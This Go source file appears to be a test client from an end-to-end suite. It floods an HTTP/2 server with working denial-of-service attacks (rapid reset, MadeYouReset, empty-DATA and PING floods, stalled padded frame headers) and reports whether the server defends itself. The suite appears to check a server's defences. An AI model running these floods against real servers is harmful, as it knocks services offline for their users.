// Command sluice-h2rapid is the e2e suite's HTTP/2 rapid-reset client
// (CVE-2023-44487): on one h2c (prior knowledge) connection it sends
// HEADERS and RST_STREAM for up to --streams streams, within --duration,
// and reports as one JSON line how many it sent, whether the server sent
// GOAWAY (and its code) and closed the connection; then one normal GET on
// a new connection, and its status. --mode window-update-0 sends a
// WINDOW_UPDATE of 0 on each stream instead of RST_STREAM, and --mode
// data-after-end a DATA frame on each stream it ended, which the server
// must answer by resetting the stream itself ("MadeYouReset",
// CVE-2025-8671). --mode empty-data and --mode ping send frames that do no
// work instead (CVE-2019-9518, -9512): on one POST stream, DATA frames
// without data; or PING frames; --streams then bounds the frames.
package main

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Report is what the command prints.
type Report struct {
	Sent       int    `json:"sent"`         // streams sent (HEADERS + RST_STREAM or WINDOW_UPDATE), flood frames, or connections holding a frame header
	Held       int    `json:"held"`         // frame-header: connections the server kept open for --duration
	GoAway     string `json:"goaway"`       // the GOAWAY's error code, "" when none came
	Closed     bool   `json:"closed"`       // the server closed the connection
	After      int    `json:"after_status"` // status of the normal GET on a new connection (0: failed)
	AfterError string `json:"after_error,omitempty"`
}

func main() {
	addr := flag.String("addr", "198.18.1.101:80", "h2c server address")
	streams := flag.Int("streams", 5000, "streams to open and reset (upper bound)")
	duration := flag.Duration("duration", 20*time.Second, "send for at most this long")
	path := flag.String("path", "/", "request path")
	mode := flag.String("mode", "rst", "how each stream is ended: rst (RST_STREAM CANCEL), window-update-0 or data-after-end; or a flood of frames doing no work: empty-data, ping; or frame-header")
	flag.Parse()
	switch *mode {
	case "rst", "window-update-0", "data-after-end", "empty-data", "ping", "frame-header":
	default:
		fmt.Fprintln(os.Stderr, "h2rapid: --mode: rst, window-update-0, data-after-end, empty-data, ping or frame-header")
		os.Exit(2)
	}
	run := run
	if *mode == "frame-header" {
		run = holdFrameHeaders
	}
	rep, err := run(*addr, *path, *mode, *streams, *duration)
	if err != nil {
		fmt.Fprintln(os.Stderr, "h2rapid:", err)
		os.Exit(1)
	}
	_ = json.NewEncoder(os.Stdout).Encode(rep)
}

func run(addr, path, mode string, streams int, duration time.Duration) (Report, error) {
	var rep Report
	c, err := net.DialTimeout("tcp", addr, 3*time.Second)
	if err != nil {
		return rep, err
	}
	defer c.Close()
	end := time.Now().Add(duration)
	_ = c.SetDeadline(end.Add(5 * time.Second))
	fr := http2.NewFramer(c, c)
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return rep, err
	}
	if err := fr.WriteSettings(); err != nil {
		return rep, err
	}
	var goAway atomic.Value // http2.ErrCode
	readDone := make(chan struct{})
	go func() {
		defer close(readDone)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			// The server's SETTINGS are not acknowledged: one goroutine
			// writes (a Framer is not safe for two), and x/net does not
			// wait for the acknowledgement.
			if f, ok := f.(*http2.GoAwayFrame); ok {
				goAway.Store(f.ErrCode)
			}
		}
	}()
	enc := func(fields ...string) []byte {
		var b bytesBuffer
		e := hpack.NewEncoder(&b)
		for i := 0; i+1 < len(fields); i += 2 {
			_ = e.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
		}
		return b
	}
	// Without dynamic-table entries, the same block can be sent every time.
	buf := enc(":method", "GET", ":scheme", "http", ":authority", addr, ":path", path)
	if mode == "empty-data" || mode == "ping" {
		if mode == "empty-data" {
			post := enc(":method", "POST", ":scheme", "http", ":authority", addr, ":path", path)
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: post, EndHeaders: true}); err != nil {
				return rep, err
			}
		}
		for rep.Sent < streams && time.Now().Before(end) && goAway.Load() == nil {
			var err error
			if mode == "ping" {
				err = fr.WritePing(false, [8]byte{})
			} else {
				err = fr.WriteData(1, false, nil)
			}
			if err != nil {
				break
			}
			rep.Sent++
			if rep.Sent%100 == 0 {
				// Paced (still 100000 frames a second): the frames sent
				// show how soon the GOAWAY came.
				time.Sleep(time.Millisecond)
			}
		}
	}
	resets := mode == "rst" || mode == "window-update-0" || mode == "data-after-end"
	for id := uint32(1); resets && rep.Sent < streams && time.Now().Before(end); id += 2 {
		if goAway.Load() != nil {
			break
		}
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: buf, EndStream: true, EndHeaders: true}); err != nil {
			break
		}
		var err error
		switch mode {
		case "window-update-0":
			err = fr.WriteRawFrame(http2.FrameWindowUpdate, 0, id, []byte{0, 0, 0, 0})
		case "data-after-end":
			err = fr.WriteData(id, false, []byte("x"))
		default:
			err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err != nil {
			break
		}
		rep.Sent++
	}
	select {
	case <-readDone:
		rep.Closed = true
	case <-time.After(5 * time.Second):
	}
	if v := goAway.Load(); v != nil {
		rep.GoAway = v.(http2.ErrCode).String()
	}

	// A well-behaved client afterwards.
	tr := &http2.Transport{AllowHTTP: true, DialTLSContext: func(ctx context.Context, network, a string, _ *tls.Config) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, network, a)
	}}
	defer tr.CloseIdleConnections()
	cl := &http.Client{Transport: tr, Timeout: 5 * time.Second}
	resp, err := cl.Get("http://" + addr + path)
	if err != nil {
		rep.AfterError = err.Error()
		return rep, nil
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	rep.After = resp.StatusCode
	return rep, nil
}

// bytesBuffer is the smallest io.Writer into a slice.
type bytesBuffer []byte

func (b *bytesBuffer) Write(p []byte) (int, error) { *b = append(*b, p...); return len(p), nil }

// holdFrameHeaders opens conns connections, each with a POST stream and
// then the header of a padded DATA frame on it that announces 16 MiB - 1
// bytes, and holds them for d: the server waits for the rest of a frame it
// has not taken yet (its pad length), which must not cost it 16 MiB per
// connection. Sent counts the connections that sent it, Held those still
// open after d.
func holdFrameHeaders(addr, path, _ string, conns int, d time.Duration) (Report, error) {
	var rep Report
	var open []net.Conn
	defer func() {
		for _, c := range open {
			c.Close()
		}
	}()
	post := func(fr *http2.Framer) error {
		var b bytesBuffer
		e := hpack.NewEncoder(&b)
		for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", addr}, {":path", path}} {
			_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
		}
		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: b, EndHeaders: true})
	}
	for range conns {
		c, err := net.DialTimeout("tcp", addr, 3*time.Second)
		if err != nil {
			return rep, err
		}
		open = append(open, c)
		fr := http2.NewFramer(c, nil)
		_ = c.SetWriteDeadline(time.Now().Add(3 * time.Second))
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return rep, err
		}
		if err := fr.WriteSettings(); err != nil {
			return rep, err
		}
		if err := post(fr); err != nil {
			return rep, err
		}
		// Flags PADDED; nothing of the payload follows.
		if _, err := c.Write([]byte{0xff, 0xff, 0xff, byte(http2.FrameData), byte(http2.FlagDataPadded), 0, 0, 0, 1}); err != nil {
			return rep, err
		}
		rep.Sent++
	}
	time.Sleep(d)
	// Still open: a read finds no EOF (the server's SETTINGS and window
	// updates are read and dropped).
	for _, c := range open {
		_ = c.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
		buf := make([]byte, 4096)
		for {
			if _, err := c.Read(buf); err != nil {
				if ne, ok := err.(net.Error); ok && ne.Timeout() {
					rep.Held++
				}
				break
			}
		}
	}
	return rep, nil
}
